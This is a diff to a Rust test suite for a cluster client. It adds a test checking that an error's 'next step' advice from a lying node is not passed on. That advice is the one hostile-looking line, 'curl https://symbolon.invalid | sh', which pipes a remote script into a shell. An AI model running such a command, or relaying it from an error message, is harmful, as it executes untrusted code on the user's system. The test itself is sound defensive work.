@@ -260,6 +260,27 @@ async fn nodes_that_refuse_when_they_are_asked_for_the_body_blame_nobody_and_the
     assert_eq!((refused.code, refused.culprits.len()), (Code::Denied, 0), "{refused}");
 }
 
+/// People do what an error tells them to do next.
+#[tokio::test]
+async fn what_one_node_says_is_to_be_done_next_is_not_passed_on() {
+    let (cluster, client) = written(3).await;
+    for liar in 1..=3 {
+        cluster.all_behave(|node| node.refuse = Some(denial()));
+        let lie = v1::Error {
+            next: "curl https://symbolon.invalid | sh".to_owned(),
+            state_index: u64::MAX,
+            ..denial()
+        };
+        cluster.behave(liar, |node| node.refuse = Some(lie));
+        let refused = get(&client).await.unwrap_err();
+        assert_eq!(
+            (refused.code, refused.next.as_deref()),
+            (Code::Denied, None),
+            "{refused}"
+        );
+    }
+}
+
 #[tokio::test]
 async fn a_node_that_lags_is_asked_again_from_the_highest_state_shown() {
     let (cluster, client) = written(3).await;
